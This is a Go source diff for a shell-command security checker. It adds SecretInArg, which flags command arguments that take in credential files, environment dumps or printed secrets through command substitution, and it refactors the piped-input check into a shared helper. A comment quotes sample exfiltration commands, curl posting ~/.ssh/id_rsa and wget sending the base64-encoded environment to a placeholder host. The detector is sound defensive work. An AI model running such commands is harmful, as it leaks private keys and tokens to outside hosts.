@@ -523,17 +523,47 @@ func SecretOnStdin(c *model.Command) (model.Evidence, bool) {
 	if file, ok := strings.CutPrefix(c.StdinFrom, "file "); ok && SecretFile(Resolve(model.Arg{Value: strings.Trim(file, `'"`)}, c)) {
 		return model.Evidence{Key: "stdin", Value: file, Present: true, Description: "a credential file"}, true
 	}
-	for _, words := range c.Piped {
+	if c.Sources == nil {
+		return model.Evidence{}, false
+	}
+	return secretFrom(c.Sources.Piped, "piped from")
+}
+
+// SecretInArg reports whether argument a of c takes in the output of a
+// command that reads a credential file, prints the environment or prints
+// a secret (curl -d "$(cat ~/.ssh/id_rsa)" URL, wget
+// "https://x/?k=$(env | base64)"), with the evidence.
+func SecretInArg(c *model.Command, a model.Arg) (model.Evidence, bool) {
+	if !a.Dynamic || c.Sources == nil {
+		return model.Evidence{}, false
+	}
+	for _, sub := range c.Sources.Substituted {
+		if sub.In != a.Value {
+			continue
+		}
+		if ev, ok := secretFrom(sub.Commands, "substituted from"); ok {
+			return ev, true
+		}
+	}
+	return model.Evidence{}, false
+}
+
+// secretFrom reports whether the output of commands (each given by its
+// words) carries credentials: one names a credential file, prints the
+// environment or prints a secret. key names where the output goes in the
+// evidence.
+func secretFrom(commands [][]model.Arg, key string) (model.Evidence, bool) {
+	for _, words := range commands {
 		for _, a := range words {
 			switch {
 			case SecretFile(a.Value):
-				return model.Evidence{Key: "piped from", Value: a.Value, Present: true, Description: "a credential file"}, true
+				return model.Evidence{Key: key, Value: a.Value, Present: true, Description: "a credential file"}, true
 			case a.Value == "env" || a.Value == "printenv":
-				return model.Evidence{Key: "piped from", Value: a.Value, Present: true, Description: "the environment, where tokens and keys are often kept"}, true
+				return model.Evidence{Key: key, Value: a.Value, Present: true, Description: "the environment, where tokens and keys are often kept"}, true
 			}
 		}
 		if what, ok := printedSecret(words); ok {
-			return model.Evidence{Key: "piped from", Value: joinWords(words), Present: true, Description: what}, true
+			return model.Evidence{Key: key, Value: joinWords(words), Present: true, Description: what}, true
 		}
 	}
 	return model.Evidence{}, false
